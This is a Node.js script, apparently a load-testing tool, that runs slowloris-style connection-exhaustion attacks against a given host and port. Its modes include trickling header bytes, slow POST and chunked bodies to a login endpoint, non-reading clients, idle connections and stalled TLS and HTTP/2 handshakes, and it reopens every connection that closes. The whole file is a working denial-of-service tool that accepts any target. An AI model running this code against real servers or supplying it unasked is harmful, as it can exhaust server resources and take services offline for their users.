// An address that opens connections and does not finish what it says: flood.mjs KIND HOST PORT FROM COUNT. Says "open" when all have been
// opened, then a line for each second: how many of them are still there, and how many have been opened so far. Those that end are opened
// again. Ends with its input.
import { connect } from 'node:net';
import { connect as connect_tls } from 'node:tls';

const [kind, host, port, from, count] = process.argv.slice(2);
const post = (path, more) => `POST ${path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n${more}\r\n\r\n`;
const http2 = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0])]);    // and empty SETTINGS

// What is said first, what is added each second, and over what.
const { first, more, tls, reads = true } = {
  'silent': {},
  'header': { first: 'GET / HTTP/1.1\r\nHost: localhost\r\nX-', more: 'a' },
  'body': { first: post('/api/auth/login', 'Content-Length: 100000') + '{', more: ' ' },
  'chunks': { first: post('/api/auth/login', 'Transfer-Encoding: chunked') + '1\r\n{\r\n', more: '1\r\n \r\n' },
  'page body': { first: post('/', 'Content-Length: 100000') + '{', more: ' ' },
  'page chunks': { first: post('/', 'Transfer-Encoding: chunked') + '1\r\n{\r\n', more: '1\r\n \r\n' },
  'reader': { first: 'GET /landing/style.css HTTP/1.1\r\nHost: localhost\r\n\r\n'.repeat(200), reads: false },
  'idle': { first: 'GET /nothing HTTP/1.1\r\nHost: localhost\r\n\r\n' },
  'misdirected': { first: 'GET / HTTP/1.1\r\nHost: elsewhere.example\r\n\r\n' },
  'tls header': { tls: ['http/1.1'], first: 'GET / HTTP/1.1\r\nHost: localhost\r\nX-', more: 'a' },
  'tls silent': { tls: ['http/1.1'] },
  'http2': { tls: ['h2'], first: http2 },
}[kind];

const open = new Set();
let opened = 0, ending = false;
function attack() {
  const where = { host, port: Number(port), localAddress: from };
  const socket = tls ? connect_tls({ ...where, rejectUnauthorized: false, ALPNProtocols: tls }) : connect(where);
  socket.on('connect', () => {
    open.add(socket);
    if (++opened === Number(count)) process.stdout.write('open\n');
  });
  socket.on(tls ? 'secureConnect' : 'connect', () => {
    if (!reads) socket.pause();
    if (first) socket.write(first);
  });
  if (reads) socket.on('data', () => {});
  socket.on('error', () => {});
  socket.on('close', () => {
    open.delete(socket);
    if (!ending) setTimeout(attack, 1000);
  });
}
for (let number = 0; number < Number(count); ++number) attack();
setInterval(() => {
  process.stdout.write(`${open.size} ${opened}\n`);
  if (more) for (const socket of open) if (socket.writable) socket.write(more);
}, 1000);
process.stdin.resume();
process.stdin.on('end', () => {
  ending = true;
  process.exit();
});
